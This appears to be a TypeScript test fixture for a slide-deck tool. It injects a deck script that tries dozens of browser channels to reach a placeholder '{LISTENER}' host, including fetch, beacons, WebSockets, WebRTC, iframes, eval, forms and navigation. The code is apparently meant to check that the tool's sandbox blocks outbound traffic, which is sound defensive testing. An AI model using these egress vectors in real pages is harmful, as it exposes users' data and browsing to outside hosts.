/**
 * A deck's own script that tries every way out. Whoever opens a deck with scripts lets them lead elsewhere, as any page
 * may; so it does that only while the deck is printed.
 */
export const harmfulScript = `
const attempts = {
  fetch: () => fetch("{LISTENER}/fetch", { mode: "no-cors" }),
  keepalive: () => fetch("{LISTENER}/keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
  request: () => { const r = new XMLHttpRequest(); r.open("GET", "{LISTENER}/xhr"); r.send(); },
  socket: () => new WebSocket("{SOCKET}/socket"),
  transport: () => new WebTransport("https://" + new URL("{LISTENER}").host + "/transport"),
  events: () => new EventSource("{LISTENER}/events"),
  beacon: () => navigator.sendBeacon("{LISTENER}/beacon", "x"),
  picture: () => { new Image().src = "{LISTENER}/picture"; },
  sound: () => { new Audio("{LISTENER}/sound").play(); },
  module: () => import("{LISTENER}/module.js"),
  worker: () => new Worker("{LISTENER}/worker.js"),
  ownWorker: () => new Worker(URL.createObjectURL(new Blob(["fetch('{LISTENER}/own-worker')"]))),
  service: () => navigator.serviceWorker.register("{LISTENER}/service.js"),
  calls: () => {
    const host = new URL("{LISTENER}").host;
    const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:" + host, "turn:" + host], username: "a", credential: "b" }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  frame: () => add("iframe", { src: "{LISTENER}/frame" }),
  frameText: () => add("iframe", { srcdoc: "<script>fetch('{LISTENER}/frame-text')</" + "script><img src='{LISTENER}/frame-picture'>" }),
  object: () => add("object", { data: "{LISTENER}/object" }),
  embed: () => add("embed", { src: "{LISTENER}/embed" }),
  script: () => add("script", { src: "{LISTENER}/script.js" }),
  inline: () => add("script", { textContent: "fetch('{LISTENER}/inline')" }),
  sheet: () => add("link", { rel: "stylesheet", href: "{LISTENER}/sheet.css" }),
  prefetch: () => add("link", { rel: "prefetch", href: "{LISTENER}/prefetch" }),
  preload: () => add("link", { rel: "preload", as: "fetch", href: "{LISTENER}/preload" }),
  prerender: () => add("link", { rel: "prerender", href: "{LISTENER}/prerender" }),
  connect: () => add("link", { rel: "preconnect", href: "{LISTENER}" }),
  icon: () => add("link", { rel: "icon", href: "{LISTENER}/icon.png" }),
  manifest: () => add("link", { rel: "manifest", href: "{LISTENER}/manifest" }),
  rules: () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: ["{LISTENER}/rules"] }] }) }),
  import: () => add("style", { textContent: "@import url({LISTENER}/import.css); body{background:url({LISTENER}/ground)}" }),
  font: () => new FontFace("x", "url({LISTENER}/font)").load(),
  video: () => add("video", { src: "{LISTENER}/video", poster: "{LISTENER}/poster", autoplay: true }),
  evaluated: () => eval("fetch('{LISTENER}/eval')"),
  made: () => Function("fetch('{LISTENER}/function')")(),
  timer: () => setTimeout("fetch('{LISTENER}/timer')", 0),
  handler: () => { add("div", {}).setAttribute("onclick", "fetch('{LISTENER}/handler')"); document.body.lastElementChild.click(); },
};
const leaving = {
  form: () => { const form = add("form", { action: "{LISTENER}/form", method: "post" }); form.submit(); },
  download: () => { const link = add("a", { href: "{LISTENER}/download", download: "x" }); link.click(); },
  link: () => { const link = add("a", { href: "{LISTENER}/link", target: "_blank" }); link.click(); },
  ping: () => { const link = add("a", { href: "#x", ping: "{LISTENER}/ping" }); link.click(); },
  popup: () => window.open("{LISTENER}/popup"),
  blank: () => { const other = window.open(""); other.location = "{LISTENER}/blank"; },
  refresh: () => add("meta", { httpEquiv: "refresh", content: "0;url={LISTENER}/refresh" }),
  go: () => { location.href = "{LISTENER}/go"; },
};
function add(name, values) {
  const element = Object.assign(document.createElement(name), values);
  document.body.append(element);
  return element;
}
function attempt(list) {
  for (const each of Object.values(list)) {
    try {
      const promise = each();
      if (promise && promise.catch) promise.catch(() => undefined);
    } catch {}
  }
}
const isPrinted = location.protocol !== "file:" && !(location.protocol === "http:" && location.hostname === "localhost");
attempt(attempts);
if (isPrinted) attempt(leaving);
addEventListener("load", () => { attempt(attempts); if (isPrinted) attempt(leaving); });
`;

/** The deck with the script and \`print: live\`; what it says of both itself stays. */
export function withOwnScripts(name: string, content: string | Uint8Array): string | Uint8Array {
  if (typeof content !== "string") return content;
  const own = (key: string) => new RegExp(`^${key}:`, "m").test(frontOf(content));
  const added = [...(own("print") ? [] : ["print: live"]), ...(own("scripts") ? [] : ["scripts: [harm.js]"]), ""].join(
    "\n",
  );
  if (/\.ya?ml$/.test(name)) return `${content.replace(/\n?$/, "\n")}${added}`;
  const front = /^---\r?\n/.exec(content);
  return front ? `${front[0]}${added}${content.slice(front[0].length)}` : `---\n${added}---\n\n${content}`;
}

const frontOf = (text: string) => (text.startsWith("---") ? text.slice(0, text.indexOf("\n---", 3)) : text);
